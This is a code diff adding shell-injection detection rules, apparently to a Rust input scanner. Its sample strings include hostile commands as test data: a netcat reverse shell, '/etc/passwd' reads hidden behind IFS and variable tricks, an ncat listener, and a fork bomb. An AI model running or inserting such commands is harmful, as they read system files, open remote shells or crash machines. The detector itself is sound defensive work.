@@ -108,7 +108,7 @@ pub(super) static BLANK: Rule = Rule::new(
     60,
     "separates words by an expansion instead of a blank",
     &["cat$IFS/etc/passwd", "{cat,/etc/passwd}", ";ls${IFS}-la"],
-    &["{a,b}", "set IFS to a comma"],
+    &["{a,b}", "{id,name}", "set IFS to a comma"],
 );
 pub(super) static OPTION: Rule = Rule::new(
     Class::Shell,
@@ -174,6 +174,65 @@ pub(super) static ENCODED: Rule = Rule::new(
     &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'"],
     &["bash on windows", "perl of wisdom"],
 );
+pub(super) static PREFIXED: Rule = Rule::new(
+    Class::Shell,
+    "shell.run-through",
+    20,
+    "runs a program through another one",
+    &["sudo whoami", "strace ifconfig", "nohup ncat -l 4444"],
+    &["time flies", "watch the tree", "sudo"],
+);
+pub(super) static KEPT_PROGRAM: Rule = Rule::new(
+    Class::Shell,
+    "shell.kept-program",
+    100,
+    "runs a program whose name it put into a variable",
+    &["a=nc&&$a -e sh 10.0.0.1", "x; v=l;cur$v http://example.com/x", "c=cat;p=/etc/passwd;${c} $p"],
+    &["a=1; b=$2", "$total = $price; $total++", "price=$5; was $6"],
+);
+pub(super) static ALIAS: Rule = Rule::new(
+    Class::Shell,
+    "shell.alias",
+    60,
+    "gives a command another name",
+    &["alias ls='cat /etc/passwd'", "alias a=curl"],
+    &["alias", "an alias = another name", "also known by the alias x"],
+);
+pub(super) static BATCH_LOOP: Rule = Rule::new(
+    Class::Shell,
+    "shell.batch-loop",
+    100,
+    "loops in the manner of the Windows command interpreter",
+    &["for /f \"delims=\" %i in ('dir /b') do echo %i", "& FOR %%G IN (a,b,c) DO md %%G"],
+    &["5 % off for all in (store) do come", "for %s in the list", "for x in (1, 2) do"],
+);
+pub(super) static BATCH_CONDITION: Rule = Rule::new(
+    Class::Shell,
+    "shell.batch-condition",
+    100,
+    "asks a condition in the manner of the Windows command interpreter",
+    &[
+        "if exist c:\\pagefile.sys (cmd)",
+        "IF /I \"%var%\" NEQ \"0\" echo inequality",
+        "x & if not errorlevel 1 goto done",
+        "if a==b echo same",
+    ],
+    &[
+        "if exist",
+        "if not, sort it yourself",
+        "if x == 1: print(x)",
+        "if (a == b) sort(c)",
+        "if defined terms matter, type them in bold",
+    ],
+);
+pub(super) static FORK_BOMB: Rule = Rule::new(
+    Class::Shell,
+    "shell.fork-bomb",
+    100,
+    "defines a function that starts itself again and again",
+    &[":(){ :|:& };:", "f() { f | f & }; f"],
+    &["f(){ f && g(); }", "function render() { draw() | 0 }", "(){ }"],
+);
 pub(super) static NETWORK: Rule = Rule::new(
     Class::Shell,
     "shell.network-device",
@@ -237,6 +296,12 @@ pub(super) static ALL: &[&Rule] = &[
     &TRAILING,
     &PIPED,
     &ENCODED,
+    &PREFIXED,
+    &KEPT_PROGRAM,
+    &ALIAS,
+    &BATCH_LOOP,
+    &BATCH_CONDITION,
+    &FORK_BOMB,
     &NETWORK,
     &SHELLSHOCK,
     &INTERPOLATION,
